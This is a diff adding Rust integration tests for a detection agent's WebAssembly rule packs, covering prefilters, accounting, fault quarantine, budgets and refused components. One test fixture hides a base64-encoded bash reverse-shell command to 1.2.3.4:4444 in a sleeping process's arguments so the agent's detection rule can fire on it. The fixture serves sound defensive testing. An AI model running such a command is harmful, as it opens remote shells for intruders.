@@ -1,0 +1,317 @@
+//! Packs whose rules are components: judged behind their prefilters, accounted for, and refused
+//! alone.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+
+use daemoneye_bus::event::{Batch, Event, Field, FieldType, Kind};
+use daemoneye_host::catalog::{Catalog, Languages};
+use daemoneye_host::judge::{self, Judge};
+use daemoneye_host::plugin::Sandbox;
+use daemoneye_host::sight::Sight;
+use daemoneye_pack_format::Trust;
+use daemoneye_tests::{Agent, Home, cache, component, plugins, program, workspace};
+use tempfile::TempDir;
+
+/// The three rules of `tests/misbehaver/packed`, with or without a prefilter.
+const PACKED: [&str; 3] = ["packed-obey", "packed-poison", "packed-endless"];
+
+/// A pack in a folder of its own.
+struct Packed {
+    folder: TempDir,
+}
+
+impl Packed {
+    fn new(id: &str, component: &[u8]) -> Self {
+        let packed = Packed { folder: tempfile::tempdir().expect("a folder") };
+        let about = format!(
+            "id = {id:?}\nrelease = 1\ntitle = \"T\"\ndescription = \"D\"\nauthors = []\napi = \"0.1\"\n"
+        );
+        packed.write("pack.toml", about);
+        packed.write("plugins/p.wasm", component);
+        packed
+    }
+
+    /// With a rule file for each id and more lines in each.
+    fn with_rules(self, ids: &[&str], more: &str) -> Self {
+        for id in ids {
+            let rule = format!(
+                "id = {id:?}\ntitle = \"T\"\nseverity = \"low\"\ntechniques = []\nwhy = \"W\"\n\
+                 false_positives = []\ncomponent = \"plugins/p.wasm\"\n{more}\n\
+                 [[tests]]\nname = \"f\"\nexpect = \"fire\"\nevent = {{ command_line = \"x\" }}\n\
+                 [[tests]]\nname = \"s\"\nexpect = \"silent\"\nevent = {{ pid = 1 }}\n"
+            );
+            self.write(&format!("rules/{id}.toml"), rule);
+        }
+        self
+    }
+
+    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) {
+        let file = self.folder.path().join(name);
+        fs::create_dir_all(file.parent().expect("a folder")).expect("a folder");
+        fs::write(file, bytes).expect("written");
+    }
+
+    fn path(&self) -> &Path {
+        self.folder.path()
+    }
+}
+
+/// A judge of these packs, and why any of them is refused.
+fn judge_of(packs: &[&Path]) -> (Judge, Vec<String>) {
+    let sandbox = Sandbox::new(Some(&cache())).expect("a sandbox");
+    let mut languages = Languages::load(&sandbox, &plugins(), Sight::Recorded, Some(&cache()))
+        .expect("the languages");
+    let mut catalog = Catalog::default();
+    let mut add = |pack: &&Path| catalog.add(pack, &Trust::AllowUnsigned, &sandbox, &mut languages);
+    let refused = packs.iter().filter_map(|pack| add(pack).err()).map(|e| e.to_string()).collect();
+    let engine = judge::engine(&sandbox, &plugins()).expect("the engine");
+    let (judge, withdrawn) = Judge::load(&engine, &mut catalog).expect("a judge");
+    assert!(withdrawn.is_empty(), "{withdrawn:?}");
+    (judge, refused)
+}
+
+fn batch(command_lines: &[&str]) -> Batch {
+    let event = |line: &&str| Event::new(Kind::Exec, 1).with(Field::CommandLine, *line);
+    Batch::from_events(&command_lines.iter().map(event).collect::<Vec<_>>()).expect("events")
+}
+
+/// Offered, filtered, judged, over budget, faulted, matched.
+fn account(judge: &Judge, rule: &str) -> [u64; 6] {
+    let rules = judge.report();
+    let found = rules.iter().find(|status| status.id == rule);
+    let status = found.unwrap_or_else(|| panic!("no rule {rule}"));
+    let (filtered, judged) = (status.filtered, status.judged);
+    let counts = [status.offered, filtered, judged, status.over_budget, status.faulted];
+    assert_eq!(counts[0], counts[1..].iter().sum::<u64>(), "{rule}: {counts:?}");
+    [counts[0], counts[1], counts[2], counts[3], counts[4], status.matched]
+}
+
+fn rows(judge: &mut Judge, batch: &Batch, rule: &str) -> Vec<usize> {
+    let (found, _) = judge.judge(batch);
+    found.iter().filter(|found| found.rule.id == rule).map(|found| found.row).collect()
+}
+
+#[test]
+fn a_component_sees_what_its_prefilter_matched_and_answers_for_the_rows_of_the_batch() {
+    let prefilter = "prefilter = \"SELECT pid FROM process_starts WHERE command_line LIKE '%y%'\"";
+    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, prefilter);
+    let (mut judge, refused) = judge_of(&[pack.path()]);
+    assert!(refused.is_empty(), "{refused:?}");
+    let batch = batch(&["x", "y", "x", "yy", "z"]);
+    assert_eq!(rows(&mut judge, &batch, "packed-obey"), [1, 3]);
+    assert_eq!(account(&judge, "packed-obey"), [5, 3, 2, 0, 0, 2]);
+    assert_eq!(account(&judge, "packed-poison"), [5, 3, 2, 0, 0, 0]);
+}
+
+#[test]
+fn without_a_prefilter_a_component_sees_every_row() {
+    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, "");
+    let (mut judge, _) = judge_of(&[pack.path()]);
+    assert_eq!(rows(&mut judge, &batch(&["x", "y"]), "packed-obey"), [0, 1]);
+    assert_eq!(account(&judge, "packed-obey"), [2, 0, 2, 0, 0, 2]);
+}
+
+#[test]
+fn a_fault_in_one_plugin_costs_no_other_a_row_and_its_own_rules_one() {
+    let bad = Packed::new("bad", &component("test/packed.wasm")).with_rules(&PACKED, "");
+    let example = example_pack();
+    let (mut judge, refused) = judge_of(&[bad.path(), example.path()]);
+    assert!(refused.is_empty(), "{refused:?}");
+    let mut lines = vec!["[kworker/0:1]"; 100];
+    lines[42] = "poison";
+    let event = |line: &&str| {
+        let event = Event::new(Kind::Exec, 1).with(Field::CommandLine, *line);
+        event.with(Field::ExecutablePath, "/tmp/x")
+    };
+    let events: Vec<Event> = lines.iter().map(event).collect();
+    let (found, unjudged) = judge.judge(&Batch::from_events(&events).expect("events"));
+    let mut faults: Vec<_> = unjudged
+        .iter()
+        .map(|failed| (failed.rule.as_deref().unwrap_or("?"), &*failed.rows))
+        .collect();
+    faults.sort_unstable();
+    assert_eq!(faults, [("packed-endless", &[42][..]), ("packed-poison", &[42])]);
+    assert_eq!(account(&judge, "packed-poison"), [100, 0, 99, 0, 1, 0]);
+    assert_eq!(account(&judge, "packed-endless"), [100, 0, 99, 0, 1, 0]);
+    assert_eq!(account(&judge, "packed-obey"), [100, 0, 100, 0, 0, 100]);
+    let threads = account(&judge, "example-false-kernel-thread");
+    assert_eq!(threads, [100, 0, 100, 0, 0, 99]);
+    assert_eq!(found.len(), 199);
+}
+
+#[test]
+fn rows_of_a_rule_in_quarantine_are_counted_as_faulted() {
+    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, "");
+    let (mut judge, _) = judge_of(&[pack.path()]);
+    for _ in 0..5 {
+        judge.judge(&batch(&["poison"]));
+    }
+    judge.judge(&batch(&["x", "y"]));
+    let mut quarantined: Vec<_> = judge.quarantined().collect();
+    quarantined.sort_unstable();
+    assert_eq!(quarantined, ["packed-endless", "packed-poison"]);
+    assert_eq!(account(&judge, "packed-poison"), [7, 0, 0, 0, 7, 0]);
+    assert_eq!(account(&judge, "packed-obey"), [7, 0, 7, 0, 0, 7]);
+}
+
+#[test]
+fn the_same_component_in_a_new_judge_keeps_its_accounts() {
+    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, "");
+    let (mut before, _) = judge_of(&[pack.path()]);
+    before.judge(&batch(&["x", "poison"]));
+    let (mut after, _) = judge_of(&[pack.path()]);
+    after.inherit(&before);
+    assert_eq!(account(&after, "packed-poison"), [2, 0, 1, 0, 1, 0]);
+    after.judge(&batch(&["x"]));
+    assert_eq!(account(&after, "packed-poison"), [3, 0, 2, 0, 1, 0]);
+}
+
+#[test]
+fn a_budget_of_the_pack_bounds_the_fuel_of_an_event() {
+    let enough = "[budget]\nfuel_per_event = 1_000_000";
+    let little = "[budget]\nfuel_per_event = 10";
+    for (budget, faulted) in [(enough, 0), (little, 1)] {
+        let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, budget);
+        let (mut judge, _) = judge_of(&[pack.path()]);
+        judge.judge(&batch(&["x"]));
+        assert_eq!(account(&judge, "packed-obey")[4], faulted, "{budget}");
+    }
+}
+
+/// A component that exports the rules of another version.
+fn of_version(version: &str) -> Vec<u8> {
+    let (own, other) =
+        (b"daemoneye:plugin/rules@0.1.0", format!("daemoneye:plugin/rules@{version}"));
+    assert_eq!(own.len(), other.len(), "only the digits change");
+    let mut bytes = component("test/packed.wasm");
+    for at in 0..bytes.len() - own.len() {
+        if bytes[at..].starts_with(own) {
+            bytes[at..at + own.len()].copy_from_slice(other.as_bytes());
+        }
+    }
+    bytes
+}
+
+#[test]
+fn a_component_that_is_refused_costs_its_pack_and_says_why() {
+    let own = || component("test/packed.wasm");
+    let tiny = "[budget]\nmemory = 4096";
+    let sentence = "built for version 0.2.0 of the plugin interface, and this agent speaks 0.1";
+    let table: [(Vec<u8>, &[&str], &str, &str); 8] = [
+        (own(), &PACKED[..2], "", "has the rules packed-endless, packed-obey, packed-poison"),
+        (own(), &[PACKED[0], PACKED[1], PACKED[2], "more"], "", "name it are more, packed-endless"),
+        (component("stdout.wasm"), &PACKED, "", "imports \"daemoneye:plugin/console@0.1.0\""),
+        (component("sql.wasm"), &PACKED, "", "not of the world rule-plugin"),
+        (b"\0asm garbage".to_vec(), &PACKED, "", "no valid component"),
+        (of_version("0.2.0"), &PACKED, "", sentence),
+        (of_version("0.0.1"), &PACKED, "", "build it again with this agent's SDK"),
+        (own(), &PACKED, tiny, "out of memory: asked for"),
+    ];
+    let example = example_pack();
+    for (bytes, ids, more, expected) in table {
+        let pack = Packed::new("refused", &bytes).with_rules(ids, more);
+        let (mut judge, refused) = judge_of(&[pack.path(), example.path()]);
+        let [why] = &refused[..] else { panic!("{expected}: {refused:?}") };
+        assert!(why.starts_with("pack refused: plugin refused/plugins/p.wasm: "), "{why}");
+        assert!(why.contains(expected), "{why}");
+        judge.judge(&batch(&["x"]));
+        assert_eq!(account(&judge, "example-false-kernel-thread")[0], 1);
+    }
+}
+
+/// The example's pack with its component.
+fn example_pack() -> Packed {
+    let pack = Packed { folder: tempfile::tempdir().expect("a folder") };
+    let example = workspace().join("plugins/example/pack");
+    pack.write("pack.toml", fs::read(example.join("pack.toml")).expect("a file"));
+    for rule in example.join("rules").read_dir().expect("a folder") {
+        let rule = rule.expect("an entry");
+        let name = format!("rules/{}", rule.file_name().to_string_lossy());
+        pack.write(&name, fs::read(rule.path()).expect("a file"));
+    }
+    pack.write("plugins/example.wasm", component("test/example.wasm"));
+    pack
+}
+
+#[test]
+fn the_example_keeps_the_tests_that_it_brings() {
+    let pack = example_pack();
+    let mut command = Command::new(program("daemoneye-agent"));
+    command.args(["--log-level", "error", "test", "--allow-unsigned", "--pack"]).arg(pack.path());
+    command.arg("--plugins").arg(plugins()).arg("--cache").arg(cache());
+    let benign = workspace().join("tests/data/benign.jsonl");
+    let output = command.arg("--benign").arg(benign).output().expect("the agent starts");
+    let said = String::from_utf8_lossy(&output.stdout);
+    assert!(output.status.success(), "{said}{}", String::from_utf8_lossy(&output.stderr));
+    assert!(said.contains("example: 2 rules, 6 of 6 tests hold"), "{said}");
+}
+
+/// A process whose command line hides a connection; it only sleeps. Killed when it is dropped.
+struct Hiding(Child);
+
+impl Hiding {
+    fn start() -> Self {
+        let hidden = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ=";
+        let mut shell = Command::new("/bin/sh");
+        shell.args(["-c", "exec sleep 60", "base64", hidden]);
+        Hiding(shell.stdin(Stdio::null()).stdout(Stdio::null()).spawn().expect("sh starts"))
+    }
+}
+
+impl Drop for Hiding {
+    fn drop(&mut self) {
+        if self.0.kill().is_ok() {
+            let _reaped = self.0.wait();
+        }
+    }
+}
+
+#[test]
+fn a_component_from_a_signed_pack_fires_on_a_live_process() {
+    let home = Home::new();
+    let pack: PathBuf = home.path("packs/example");
+    copy(example_pack().path(), &pack);
+    home.sign(&pack);
+    let agent = Agent::start(&home);
+    let hiding = Hiding::start();
+    let pid = hiding.0.id();
+    let alert = agent.wait_for_alert("a hidden command", |alert| {
+        alert["rule"] == "example-hidden-command" && alert["event"]["pid"] == pid
+    });
+    let evidence = alert["evidence"].to_string();
+    assert!(evidence.contains("/dev/tcp/1.2.3.4/4444"), "{evidence}");
+    let rules = agent.ask(&["rules"]);
+    let of_pack = rules.as_array().into_iter().flatten().filter(|rule| rule["pack"] == "example");
+    for rule in of_pack {
+        let count = |key: &str| rule[key].as_u64().expect("a count");
+        let parts = ["filtered", "judged", "over_budget", "faulted"].map(count);
+        assert_eq!(count("offered"), parts.iter().sum::<u64>(), "{rule:#}");
+    }
+}
+
+fn copy(from: &Path, to: &Path) {
+    fs::create_dir_all(to).expect("a folder");
+    for entry in from.read_dir().expect("a folder") {
+        let entry = entry.expect("an entry");
+        let target = to.join(entry.file_name());
+        if entry.path().is_dir() {
+            copy(&entry.path(), &target);
+        } else {
+            fs::copy(entry.path(), target).expect("a copy");
+        }
+    }
+}
+
+/// The SDK for guests must not depend on the agent, so the two lists are compared here.
+#[test]
+fn the_sdk_knows_every_field_of_events_and_its_type() {
+    let name = |field: &Field| match field.field_type() {
+        FieldType::Integer => (field.name(), "integer"),
+        FieldType::Float => (field.name(), "float"),
+        FieldType::Text => (field.name(), "text"),
+    };
+    let known: Vec<_> = Field::ALL.iter().map(name).collect();
+    assert_eq!(daemoneye_sdk::rule::field::ALL, known);
+}
